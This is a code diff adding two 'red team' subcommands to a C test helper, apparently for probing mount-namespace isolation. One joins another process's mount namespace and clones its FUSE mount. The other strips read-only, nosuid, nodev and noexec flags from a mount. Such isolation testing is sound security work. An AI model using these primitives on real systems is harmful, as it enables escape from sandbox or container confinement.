@@ -815,6 +815,79 @@ static int cmd_clone_rec(int argc, char **argv)
 }
 /* ---- end of the red team block ---------------------------------------------------------------- */
 
+/* --- red team 3: the landing and the FUSE daemon's own mount ------------------------------- */
+#include <dirent.h>
+#include <sys/vfs.h>
+#include <time.h>
+
+/* The pid of a process named COMM in our /proc, or -1. */
+static int rt3_find(const char *comm)
+{
+	DIR *proc = opendir("/proc");
+	struct dirent *e;
+	int found = -1;
+
+	if (!proc)
+		return -1;
+	while (found < 0 && (e = readdir(proc)) != NULL) {
+		char path[300], name[64] = "";
+		if (e->d_name[0] < '1' || e->d_name[0] > '9')
+			continue;
+		snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
+		FILE *f = fopen(path, "re");
+		if (!f)
+			continue;
+		if (fgets(name, sizeof(name), f) && strcspn(name, "\n") == strlen(comm) && !strncmp(name, comm, strlen(comm)))
+			found = atoi(e->d_name);
+		fclose(f);
+	}
+	closedir(proc);
+	return found;
+}
+
+/* fuse-steal COMM SECONDS: wait for a process named COMM, join its mount namespace and clone the
+ * FUSE mount on its /mnt the moment one is there (kept for "attach"), then come back home. */
+static int cmd_fuse_steal(int argc, char **argv)
+{
+	time_t end = time(NULL) + atoi(argv[1]);
+	int home = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC), pid = -1, ns = -1;
+
+	(void)argc;
+	while (pid < 0 || ns < 0) {
+		if (time(NULL) > end)
+			return fail(ETIMEDOUT);
+		pid = rt3_find(argv[0]);
+		if (pid > 0) {
+			char path[64];
+			snprintf(path, sizeof(path), "/proc/%d/ns/mnt", pid);
+			ns = open(path, O_RDONLY | O_CLOEXEC);
+		}
+	}
+	if (setns(ns, CLONE_NEWNS) != 0)
+		return fail(errno);
+	while (rt_clone_fd < 0) {
+		struct statfs sf;
+		long fd = syscall(428 /* open_tree */, AT_FDCWD, "/mnt", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);
+		if (fd >= 0 && fstatfs((int)fd, &sf) == 0 && sf.f_type == 0x65735546 /* FUSE */)
+			rt_clone_fd = (int)fd;
+		else if (fd >= 0)
+			close((int)fd);
+		if (rt_clone_fd < 0 && (time(NULL) > end || kill(pid, 0) != 0))
+			return fail(ETIMEDOUT);
+	}
+	return report(setns(home, CLONE_NEWNS));
+}
+
+/* setattr-clear-all TGT: mount_setattr clearing ro, nosuid, nodev and noexec. */
+static int cmd_setattr_clear_all(int argc, char **argv)
+{
+	struct mc_mount_attr attr = {.attr_clr = 0x1 | MC_ATTR_NOSUID | MC_ATTR_NODEV | 0x8};
+
+	(void)argc;
+	return report(syscall(MC_NR_MOUNT_SETATTR, AT_FDCWD, arg(argv[0]), 0, &attr, sizeof(attr)));
+}
+/* ---- end of the red team 3 block -------------------------------------------------------------- */
+
 struct command {
 	const char *name;
 	int min_args;
@@ -907,6 +980,8 @@ static const struct command commands[] = {
 	{"attach", 1, 1, cmd_attach, "attach PATH"},
 	{"clone-rec", 1, 1, cmd_clone_rec, "clone-rec PATH"},
 	{"remount-race", 5, 5, cmd_remount_race, "remount-race TGT FLAGS DIR_A DIR_B COUNT"},
+	{"fuse-steal", 2, 2, cmd_fuse_steal, "fuse-steal COMM SECONDS"},
+	{"setattr-clear-all", 1, 1, cmd_setattr_clear_all, "setattr-clear-all TGT"},
 };
 #define N_COMMANDS (sizeof(commands) / sizeof(commands[0]))
 
